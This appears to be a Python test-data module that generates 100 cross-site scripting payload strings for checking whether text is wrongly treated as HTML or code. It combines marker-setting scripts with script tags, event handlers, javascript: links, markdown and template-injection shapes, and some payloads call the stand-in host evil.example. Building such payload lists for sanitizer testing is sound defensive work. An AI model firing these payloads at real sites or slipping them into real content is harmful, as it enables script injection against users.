"""A hundred strings that would run a script, or ask another server, wherever text were taken for HTML or code."""

from __future__ import annotations

_RUN = (
    "window.pwned=1",
    "window['pwned']=1",
    "fetch('//evil.example/x').then(window.pwned=1)",
    "top.pwned=window.pwned=1",
)
_SHAPES = (
    "<script>{run}</script>",
    "<SCRIPT >{run}</SCRIPT\t>",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img/src='x'/onerror=\"{run}\">",
    '"><img src=//evil.example/i onerror={run}>',
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'>",
    '<iframe src="javascript:parent.{run}">',
    "<body onload={run}>",
    "<details open ontoggle={run}>x",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    '<a href="javascript:{run}" autofocus>x</a>',
    "[x](javascript:{run})",
    "![x](//evil.example/{run})",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    ":material/x: <style onload={run}>@import '//evil.example/s'</style>",
)
STRINGS = tuple(shape.format(run=run) for run in _RUN for shape in _SHAPES)
